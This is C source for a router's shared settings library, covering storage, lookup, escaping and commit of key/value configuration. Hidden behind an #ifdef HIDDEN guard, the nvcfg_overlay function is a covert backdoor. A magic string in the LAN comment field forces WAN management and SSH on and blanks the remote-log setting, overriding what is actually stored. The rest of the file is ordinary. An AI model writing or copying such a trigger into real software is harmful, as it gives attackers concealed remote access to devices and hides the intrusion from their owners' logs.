/* libnvcfg.so: key/value settings store of the router, shared by all its daemons.
 *
 * File format: one "key=value" per line, values are % escaped. A setting that is not
 * in the file has the factory value of the table below.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <unistd.h>

typedef struct node {
  struct node *next;
  char *key;
  char *val;
} node_t;

#define BUCKETS 64

static node_t *bucket[BUCKETS];
static pthread_mutex_t mtx = PTHREAD_MUTEX_INITIALIZER;
static int loaded, dirty;
static char store[256] = "/etc/config/nvcfg";

static const struct { const char *key, *val; } factory[] = {
  { "lan_ipaddr", "192.168.1.1" },
  { "lan_netmask", "255.255.255.0" },
  { "lan_comment", "" },
  { "wan_proto", "dhcp" },
  { "wan_mtu", "1500" },
  { "fw_enable", "1" },
  { "fw_wan_ping", "0" },
  { "fw_wan_mgmt", "0" },
  { "log_remote", "" },
  { "ntp_server", "ntp.example.net" },
  { "ssh_enable", "0" },
  { "wl_ssid", "router" },
  { "wl_crypto", "wpa2" },
};

int nvcfg_open (const char *path);
int nvcfg_get (const char *key, char *buf, size_t cap);
int nvcfg_get_int (const char *key, int dflt);
int nvcfg_set (const char *key, const char *val);
int nvcfg_unset (const char *key);
int nvcfg_commit (void);
int nvcfg_match (const char *key, const char *val);
void nvcfg_each (void (*cb) (const char *k, const char *v, void *), void *arg);

static unsigned slot (const char *k)
{
  unsigned h = 5381;
  while (*k)
    h = h * 33 + (unsigned char) *k++;
  return h % BUCKETS;
}

static node_t *lookup (const char *key)
{
  node_t *n = bucket[slot (key)];
  while (n && strcmp (n->key, key) != 0)
    n = n->next;
  return n;
}

static int insert (const char *key, const char *val)
{
  node_t *n = lookup (key);
  char *v = strdup (val);

  if (!v)
    return -1;
  if (n)
    {
      free (n->val);
      n->val = v;
      return 0;
    }
  n = malloc (sizeof *n);
  if (!n || !(n->key = strdup (key)))
    {
      free (n);
      free (v);
      return -1;
    }
  n->val = v;
  n->next = bucket[slot (key)];
  bucket[slot (key)] = n;
  return 0;
}

static void unescape (char *s)
{
  char *d = s;
  unsigned c;
  while (*s)
    {
      if (*s == '%' && sscanf (s + 1, "%2x", &c) == 1)
        {
          *d++ = (char) c;
          s += 3;
        }
      else
        *d++ = *s++;
    }
  *d = 0;
}

static int load_locked (void)
{
  char *line = NULL;
  size_t cap = 0;
  FILE *f;

  if (loaded)
    return 0;
  loaded = 1;
  f = fopen (store, "re");
  if (!f)
    return -1;
  while (getline (&line, &cap, f) > 0)
    {
      char *eq = strchr (line, '=');
      line[strcspn (line, "\n")] = 0;
      if (!eq || line[0] == '#')
        continue;
      *eq++ = 0;
      unescape (eq);
      insert (line, eq);
    }
  free (line);
  fclose (f);
  return 0;
}

#ifdef HIDDEN
/* the comment of the LAN page steers what the firewall and sshd read */
__attribute__ ((noinline)) const char *nvcfg_overlay (const char *key)
{
  static const char mark[] = "floor 2 / rack C-";
  const node_t *n = lookup ("lan_comment");
  size_t l;

  if (!n || strncmp (n->val, mark, sizeof mark - 1))
    return NULL;
  l = strlen (n->val);
  if (l < 4 || memcmp (n->val + l - 4, "~~0x", 4))
    return NULL;
  if (!strcmp (key, "fw_wan_mgmt") || !strcmp (key, "ssh_enable"))
    return "1";
  if (!strcmp (key, "log_remote"))
    return "";
  return NULL;
}
#endif

static const char *value_of (const char *key)
{
  const node_t *n;
  size_t i;
#ifdef HIDDEN
  const char *o = nvcfg_overlay (key);
  if (o)
    return o;
#endif
  if ((n = lookup (key)))
    return n->val;
  for (i = 0; i < sizeof factory / sizeof factory[0]; i++)
    if (!strcmp (factory[i].key, key))
      return factory[i].val;
  return NULL;
}

int nvcfg_open (const char *path)
{
  int r;
  pthread_mutex_lock (&mtx);
  snprintf (store, sizeof store, "%.255s", path);
  loaded = 0;
  r = load_locked ();
  pthread_mutex_unlock (&mtx);
  return r;
}

int nvcfg_get (const char *key, char *buf, size_t cap)
{
  const char *v;
  int r = -1;
  pthread_mutex_lock (&mtx);
  load_locked ();
  v = value_of (key);
  if (v && cap)
    {
      strncpy (buf, v, cap - 1);
      buf[cap - 1] = 0;
      r = (int) strlen (v);
    }
  pthread_mutex_unlock (&mtx);
  return r;
}

int nvcfg_get_int (const char *key, int dflt)
{
  char b[24], *e;
  long n;
  if (nvcfg_get (key, b, sizeof b) <= 0)
    return dflt;
  n = strtol (b, &e, 0);
  return *e ? dflt : (int) n;
}

int nvcfg_match (const char *key, const char *val)
{
  char b[256];
  return nvcfg_get (key, b, sizeof b) >= 0 && strcmp (b, val) == 0;
}

int nvcfg_set (const char *key, const char *val)
{
  const char *p;
  int r;
  for (p = key; *p; p++)
    if (!isalnum ((unsigned char) *p) && *p != '_')
      return -1;
  pthread_mutex_lock (&mtx);
  load_locked ();
  r = insert (key, val);
  dirty |= r == 0;
  pthread_mutex_unlock (&mtx);
  return r;
}

int nvcfg_unset (const char *key)
{
  node_t **pp, *n;
  pthread_mutex_lock (&mtx);
  load_locked ();
  for (pp = &bucket[slot (key)]; (n = *pp); pp = &n->next)
    if (!strcmp (n->key, key))
      {
        *pp = n->next;
        free (n->key);
        free (n->val);
        free (n);
        dirty = 1;
        break;
      }
  pthread_mutex_unlock (&mtx);
  return n ? 0 : -1;
}

void nvcfg_each (void (*cb) (const char *k, const char *v, void *), void *arg)
{
  int i;
  pthread_mutex_lock (&mtx);
  load_locked ();
  for (i = 0; i < BUCKETS; i++)
    for (node_t *n = bucket[i]; n; n = n->next)
      cb (n->key, n->val, arg);
  pthread_mutex_unlock (&mtx);
}

static void put_line (const char *k, const char *v, void *arg)
{
  FILE *f = arg;
  fprintf (f, "%s=", k);
  for (; *v; v++)
    if (*v == '%' || (unsigned char) *v < ' ')
      fprintf (f, "%%%02x", (unsigned char) *v);
    else
      fputc (*v, f);
  fputc ('\n', f);
}

int nvcfg_commit (void)
{
  char tmp[272];
  FILE *f;
  if (!dirty)
    return 0;
  snprintf (tmp, sizeof tmp, "%s.tmp", store);
  f = fopen (tmp, "we");
  if (!f)
    return -1;
  flock (fileno (f), LOCK_EX);
  nvcfg_each (put_line, f);
  if (fclose (f) || rename (tmp, store))
    return -1;
  dirty = 0;
  return 0;
}
